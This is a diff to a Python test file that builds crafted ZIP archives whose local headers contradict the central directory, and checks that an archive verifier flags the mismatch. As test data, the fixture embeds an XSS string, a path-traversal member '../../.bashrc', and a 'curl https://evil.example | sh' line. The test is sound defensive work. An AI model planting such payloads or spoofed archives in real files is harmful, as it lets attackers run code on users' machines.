@@ -4,6 +4,7 @@ archive and a missing media file. Archives come from the real encoder (ArchiveSt
 from __future__ import annotations
 
 import hashlib
+import io
 import json
 import os
 import random
@@ -345,6 +346,53 @@ def test_a_member_the_central_directory_does_not_list_is_a_problem(tmp_path: Pat
         "before media/b.jpg" if before == "media/b.jpg" else "before the central directory"
     assert any(p.endswith(f"bytes {where} that the central directory does not account for (a streaming reader "
                           "would read them as members it does not list)") for p in report.problems), report.problems
+
+
+def local_lies(tmp_path: Path, field: str) -> tuple[Path, bytes]:
+    """An archive whose stored media/z.jpg is, to zipfile (which reads the central directory), the
+    bytes manifest.json lists; its local header alone says otherwise: deflated (``method``: the bytes
+    are a deflate stream of other content) or 25 bytes long (``size``: the rest is read as the next
+    header). Returns it and what a streaming reader, which reads the local header, makes of the member."""
+    other = b"<script>alert(1)</script>" * 40
+    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
+    raw = deflate.compress(other) + deflate.flush()
+    if field == "size":
+        hidden = io.BytesIO()
+        with zipfile.ZipFile(hidden, "w") as zf:
+            zf.writestr("../../.bashrc", b"curl https://evil.example | sh\n")
+        raw = other[:25] + hidden.getvalue()[:hidden.getvalue().index(b"PK\x01\x02")]
+    src = rewrite(write(tmp_path, sources()), tmp_path / "plain.zip", extra={"media/z.jpg": raw})
+    path = tmp_path / "lies.zip"
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zout:
+        for info in zin.infolist():
+            zout.writestr(info.filename, zin.read(info))
+    data = bytearray(path.read_bytes())
+    with zipfile.ZipFile(path) as zf:
+        at = zf.getinfo("media/z.jpg").header_offset
+    if field == "method":
+        struct.pack_into("<HHHIII", data, at + 8, 8, 0, 0x21, zlib.crc32(other), len(raw), len(other))
+    else:
+        struct.pack_into("<III", data, at + 14, zlib.crc32(other[:25]), 25, 25)
+    path.write_bytes(bytes(data))
+    return path, other if field == "method" else other[:25]
+
+
+@pytest.mark.parametrize(("field", "says"), [("method", "compression method"), ("size", "CRC-32 or sizes")])
+def test_a_local_header_that_disagrees_with_the_central_directory_is_a_problem(tmp_path: Path, field: str,
+                                                                               says: str) -> None:
+    """Seen: "archive OK" for a member whose local header says it is deflated, or shorter, where the
+    central directory says stored: zipfile (so verify, and import) read the bytes the manifest lists,
+    while a streaming reader follows the local header and extracts other content (here a script), or
+    stops early and reads the rest as a member of its own (../../.bashrc)."""
+    path, streamed = local_lies(tmp_path, field)
+    seen = {name: b"".join(chunks) for name, _, chunks in stream_unzip([path.read_bytes()])}
+    assert seen[b"media/z.jpg"] == streamed  # what a streaming reader extracts
+    assert (b"../../.bashrc" in seen) == (field == "size")
+    with zipfile.ZipFile(path) as zf:
+        assert zf.read("media/z.jpg") != streamed  # and what verify checks
+    report = verify_archive(path)
+    assert f"media/z.jpg: its local header and the central directory disagree on its {says} (a streaming " \
+           "reader would extract other bytes than those checked)" in report.problems, report.text()
 
 
 def test_a_truncated_archive_is_walked_in_bounded_memory(tmp_path: Path) -> None:
